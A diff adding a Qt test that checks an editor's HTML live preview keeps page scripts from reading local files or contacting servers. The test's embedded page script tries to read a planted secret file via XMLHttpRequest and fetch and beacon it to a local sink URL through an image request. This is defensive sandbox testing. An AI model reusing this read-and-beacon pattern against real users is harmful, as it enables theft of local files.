@@ -14,6 +14,9 @@
 #include <QDir>
 #include <QImage>
 #include <QSignalSpy>
+#include <QTemporaryDir>
+#include <QFile>
+#include <QTcpServer>
 #include <QTest>
 
 using testkit::App;
@@ -121,6 +124,86 @@ private slots:
         QCOMPARE(evaluate("document.getElementById('go') !== null"), QVariant(true));
         QCOMPARE(evaluate("window.open('about:blank') === null"), QVariant(true));
         app.main().action("mnuViewLivePreview")->trigger();
+    }
+
+    // A page's scripts may be anyone's: they read no file (XMLHttpRequest, fetch, a frame of a
+    // file that is no page, hidden files), reach no server, while the page's own pictures,
+    // style sheets and scripts still load. Remote content comes only once the user allows it.
+    void scriptsReadNoFilesAndReachNoServer()
+    {
+        QTcpServer server;
+        QVERIFY(server.listen(QHostAddress::LocalHost));
+        QSignalSpy arrived(&server, &QTcpServer::newConnection);
+        const QString sink = QStringLiteral("http://127.0.0.1:%1/").arg(server.serverPort());
+        QTemporaryDir home;
+        const QByteArray oldHome = qgetenv("HOME");
+        qputenv("HOME", home.path().toLocal8Bit());
+        QDir(home.path()).mkpath("site/.hidden");
+        auto write = [&](const QString& name, const QByteArray& bytes) {
+            QFile f(home.filePath(name));
+            QVERIFY(f.open(QIODevice::WriteOnly));
+            f.write(bytes);
+        };
+        write("site/secret.txt", "SECRET-TEXT");
+        write("site/.hidden/key.js", "window.leaked = 'SECRET-HIDDEN';");
+        write("site/style.css", "#styled { color: rgb(0, 128, 0); }");
+        write("site/code.js", "window.codeRan = true;");
+        write("site/frame.htm", "<P>frame page</P>");
+        QImage picture(30, 20, QImage::Format_RGB32);
+        picture.fill(Qt::red);
+        QVERIFY(picture.save(home.filePath("site/dot.png")));
+        QVERIFY(picture.save(home.filePath("dot.png")));
+
+        App app;
+        app.newDocument();
+        app.doc()->setWindowTitle(home.filePath("site/index.htm"));
+        app.edit()->setWholeText(
+            QStringLiteral(
+                "<HTML><HEAD><LINK REL=stylesheet HREF=\"style.css\"><SCRIPT SRC=\"code.js\"></SCRIPT>"
+                "<SCRIPT SRC=\".hidden/key.js\"></SCRIPT></HEAD><BODY><P ID=styled>text</P>"
+                "<IMG ID=in SRC=\"dot.png\"><IMG ID=remote SRC=\"%1remote.png\">"
+                "<IFRAME ID=page SRC=\"frame.htm\"></IFRAME><IFRAME ID=file SRC=\"secret.txt\"></IFRAME>"
+                "<SCRIPT>window.got = [];"
+                "function note(x) { got.push(String(x)); new Image().src = '%1?d=' + encodeURIComponent(x); }"
+                "try { var x = new XMLHttpRequest(); x.open('GET', 'secret.txt', false); x.send();"
+                " note(x.responseText); } catch (e) { note('xhr refused'); }"
+                "fetch('secret.txt').then(r => r.text()).then(note, () => note('fetch refused'));"
+                "</SCRIPT></BODY></HTML>")
+                .arg(sink));
+        openPreview(app);
+        QVERIFY(showsWithin("document.getElementById('in').complete && document.getElementById('in').naturalWidth",
+                            30, 10000));
+        QCOMPARE(evaluate("window.codeRan === true"), QVariant(true));
+        QCOMPARE(evaluate("getComputedStyle(document.getElementById('styled')).color"),
+                 QVariant(QStringLiteral("rgb(0, 128, 0)")));
+        QVERIFY(showsWithin("got.length", 2, 10000));
+        const QString got = evaluate("JSON.stringify(got)").toString();
+        QVERIFY2(!got.contains("SECRET"), qPrintable(got));
+        QCOMPARE(evaluate("typeof window.leaked"), QVariant(QStringLiteral("undefined")));
+        const QString frames = QStringLiteral(
+            "[...document.querySelectorAll('iframe')].map(f => { try { return f.contentDocument ? "
+            "f.contentDocument.documentElement.outerHTML : 'closed'; } catch (e) { return 'closed'; } }).join('|')");
+        QVERIFY2(!evaluate(frames).toString().contains("SECRET"), qPrintable(evaluate(frames).toString()));
+        QTest::qWait(1000); // the page's requests have had their time: none reached the server
+        QCOMPARE(arrived.count(), 0);
+
+        // Allowed by the user: the remote picture is asked for.
+        QAction* remote = app.main().action("mnuViewPreviewRemote");
+        QVERIFY(!remote->isChecked());
+        remote->trigger();
+        QVERIFY(remote->isChecked());
+        QTRY_VERIFY_WITH_TIMEOUT(arrived.count() > 0, 10000);
+        remote->trigger();
+        QVERIFY(!remote->isChecked());
+
+        // A page without a file of its own reads nothing, not even beside it in the home folder.
+        app.newDocument();
+        app.edit()->setWholeText("<HTML><BODY><IMG ID=in SRC=\"dot.png\"><P ID=done>x</P></BODY></HTML>");
+        QVERIFY(showsWithin("document.getElementById('done') !== null && document.getElementById('in').complete",
+                            true, 10000));
+        QCOMPARE(evaluate("document.getElementById('in').naturalWidth"), QVariant(0));
+        app.main().action("mnuViewLivePreview")->trigger();
+        qputenv("HOME", oldHome);
     }
 
     // Far over what the engine takes as a page given by value: the whole page arrives. (Most
